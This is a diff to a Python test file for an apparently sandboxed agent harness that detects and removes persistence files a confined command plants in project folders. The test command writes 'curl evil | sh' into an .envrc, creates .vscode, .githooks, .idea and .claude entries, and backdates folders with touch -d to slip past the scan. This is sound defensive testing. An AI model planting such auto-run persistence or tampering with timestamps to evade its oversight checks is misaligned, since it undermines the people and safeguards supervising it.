@@ -31,6 +31,9 @@ each caught by the scan before it kept anything (it looked at every file on ever
    every kept look is dropped when the mount table changed (a poll on ``/proc/self/mountinfo``);
    the device alone did not do (the second image got the same loop device, as a second SD card
    in the same reader gets the same device).
+
+What held is kept as a test too: persistence a boxed call makes in folders whose looks were
+kept (``touch -d`` on them after) is found by the look after the call and swept.
 """
 
 from __future__ import annotations
@@ -166,3 +169,30 @@ def test_persistence_on_another_disk_mounted_where_a_kept_one_was_stays_read_onl
         world.bash('echo \'{"tasks": [{"command": "evil"}]}\' > cache/disk/.vscode/tasks.json')
         with open(path, encoding="utf-8") as f:
             assert f.read().strip() == tasks
+
+
+PLANTED = ("lib/.envrc", "lib/deep/.vscode", "pkg/a/b/.githooks", "x/.idea", "x/.claude")
+
+
+def test_persistence_a_call_makes_in_kept_folders_is_swept(world: World) -> None:
+    """What held: the look after a call finds what it made in folders whose looks were kept
+    (each one it made a name in has a new ctime, ``touch -d`` or not), and ordinary work in
+    them stays."""
+    folders = [world.project]
+    for rel in ("lib/deep", "pkg/a/b", "x"):
+        put(os.path.join(world.project, rel, "keep.txt"), "keep")
+        parts = rel.split("/")
+        folders += [os.path.join(world.project, *parts[: i + 1]) for i in range(len(parts))]
+    _settled(world, folders, "ls lib lib/deep pkg/a/b x")
+    command = (
+        "mkdir -p lib/deep/.vscode pkg/a/b/.githooks x/.idea"
+        " && echo 'curl evil | sh' > lib/.envrc && echo '{}' > lib/deep/.vscode/tasks.json"
+        " && ln -s ../lib x/.claude && echo ok > lib/deep/keep.txt"
+        " && touch -d 2001-01-01 lib lib/deep pkg/a/b x pkg/a pkg ."
+    )
+    _, text = world.bash(command)
+    left = [rel for rel in PLANTED if os.path.lexists(os.path.join(world.project, rel))]
+    assert left == [], text
+    assert "now removed" in text and "x/.claude" in text, text  # made, then swept
+    with open(os.path.join(world.project, "lib", "deep", "keep.txt"), encoding="utf-8") as f:
+        assert f.read() == "ok\n"
